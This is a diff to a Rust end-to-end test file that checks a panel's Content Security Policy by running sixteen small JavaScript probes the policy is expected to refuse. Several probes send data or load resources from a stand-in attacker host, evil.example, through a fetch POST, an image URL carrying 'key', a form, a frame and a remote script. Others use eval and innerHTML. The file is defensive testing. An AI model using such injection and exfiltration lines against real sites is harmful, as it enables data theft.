@@ -3,83 +3,78 @@
 
 use e2e::{Mishap, Page, PlainHost, page_test, panel_test};
 
-/// A name for the message, the directives that may refuse it, the attempt, and what it returns when it failed.
-/// Where two directives are named, both forbid it and the browser reports the one that it looks at first.
+/// A name for the message, the directive that refuses it, the attempt, and what the attempt returns when it failed.
 struct Probe {
     name: &'static str,
-    by: &'static [&'static str],
+    by: &'static str,
     attempt: &'static str,
     failed: &'static str,
 }
 
-const SCRIPT: &[&str] = &["require-trusted-types-for", "script-src-elem"];
-const HANDLER: &[&str] = &["require-trusted-types-for", "script-src-attr"];
-const CODE: &[&str] = &["require-trusted-types-for", "script-src"];
-const MARKUP: &[&str] = &["require-trusted-types-for"];
+const TYPES: &str = "require-trusted-types-for";
 
-/// Waits for an event that follows the attempt, whichever comes; without one the answer is "nothing happened".
 const PROBES: [Probe; 16] = [
     Probe {
         name: "an inline script",
-        by: SCRIPT,
+        by: TYPES,
         attempt: "const it = document.createElement('script'); it.append(document.createTextNode('window.ran = 1')); \
                   document.body.append(it); it.remove(); return String(window.ran);",
         failed: "undefined",
     },
     Probe {
         name: "an onerror attribute",
-        by: HANDLER,
+        by: TYPES,
         attempt: "const it = document.createElement('img'); it.setAttribute('onerror', 'window.ran = 1'); \
                   it.dispatchEvent(new Event('error')); return String(window.ran);",
         failed: "TypeError",
     },
     Probe {
         name: "eval",
-        by: CODE,
+        by: TYPES,
         attempt: "return String((0, eval)('1 + 1'));",
         failed: "EvalError",
     },
     Probe {
         name: "new Function",
-        by: CODE,
+        by: TYPES,
         attempt: "return String(new Function('return 2')());",
         failed: "EvalError",
     },
     Probe {
         name: "markup from a string",
-        by: MARKUP,
+        by: TYPES,
         attempt: "document.createElement('div').innerHTML = '<b>x</b>'; return 'set';",
         failed: "TypeError",
     },
     Probe {
         name: "a policy of its own for Trusted Types",
-        by: &["trusted-types"],
+        by: "trusted-types",
         attempt: "trustedTypes.createPolicy('default', { createHTML: (text) => text }); return 'made';",
         failed: "TypeError",
     },
     Probe {
         name: "a style attribute",
-        by: &["style-src-attr"],
+        by: "style-src-attr",
         attempt: "const it = document.createElement('p'); it.setAttribute('style', 'color: rgb(1, 2, 3)'); \
                   document.body.append(it); const color = getComputedStyle(it).color; it.remove(); return color === 'rgb(1, 2, 3)' ? 'styled' : 'plain';",
         failed: "plain",
     },
     Probe {
         name: "a request to another host",
-        by: &["connect-src"],
+        by: "connect-src",
         attempt: "await fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'key' }); return 'sent';",
         failed: "TypeError",
     },
     // The page's own policy allows it, for hosts that send no headers; the header does not.
     Probe {
         name: "a request to another port of this machine",
-        by: &["connect-src"],
+        by: "connect-src",
         attempt: "await fetch('http://127.0.0.1:9/', { mode: 'no-cors' }); return 'sent';",
         failed: "TypeError",
     },
     Probe {
         name: "a frame in the panel",
-        by: &["frame-src"],
+        by: "frame-src",
         attempt: "const it = document.createElement('iframe'); it.src = 'https://evil.example/'; document.body.append(it); \
                   await new Promise((done) => it.addEventListener('load', done)); \
                   let inside = 'another page'; try { inside = it.contentDocument.URL; } catch {} it.remove(); return inside;",
@@ -87,40 +82,40 @@ const PROBES: [Probe; 16] = [
     },
     Probe {
         name: "a form sent elsewhere",
-        by: &["form-action"],
+        by: "form-action",
         attempt: "const it = document.createElement('form'); it.method = 'post'; it.action = 'https://evil.example/'; \
                   document.body.append(it); it.submit(); it.remove(); return 'here';",
         failed: "here",
     },
     Probe {
         name: "another base for links",
-        by: &["base-uri"],
+        by: "base-uri",
         attempt: "const it = document.createElement('base'); it.href = 'https://evil.example/'; document.head.append(it); \
                   const base = document.baseURI; return base.startsWith(location.origin) ? 'unchanged' : base;",
         failed: "unchanged",
     },
     Probe {
         name: "an image of another host",
-        by: &["img-src"],
+        by: "img-src",
         attempt: "const it = new Image(); it.src = 'https://evil.example/x.png?key'; \
                   return await new Promise((done) => { it.onload = () => done('loaded'); it.onerror = () => done('failed'); });",
         failed: "failed",
     },
     Probe {
         name: "a font of another host",
-        by: &["font-src"],
+        by: "font-src",
         attempt: "await new FontFace('x', 'url(https://evil.example/x.woff2)').load(); return 'loaded';",
         failed: "NetworkError",
     },
     Probe {
         name: "a script of another host",
-        by: SCRIPT,
+        by: TYPES,
         attempt: "const it = document.createElement('script'); it.src = 'https://evil.example/x.js'; document.body.append(it); return 'asked';",
         failed: "TypeError",
     },
     Probe {
         name: "a worker from a string",
-        by: &["worker-src", "require-trusted-types-for"],
+        by: TYPES,
         attempt: "new Worker(URL.createObjectURL(new Blob(['1']))); return 'started';",
         failed: "TypeError",
     },
@@ -171,7 +166,7 @@ fn in_a_browser_without_trusted_types_the_policy_refuses_scripts_all_the_same() 
             let attempt = probe.expect("a probe of this name").attempt;
             let outcome = page.inside(attempt).await.to_string();
             assert!(outcome.contains(failed), "{name}: {outcome}");
-            page.refused(&[by]).await;
+            page.refused(by).await;
         }
     });
 }
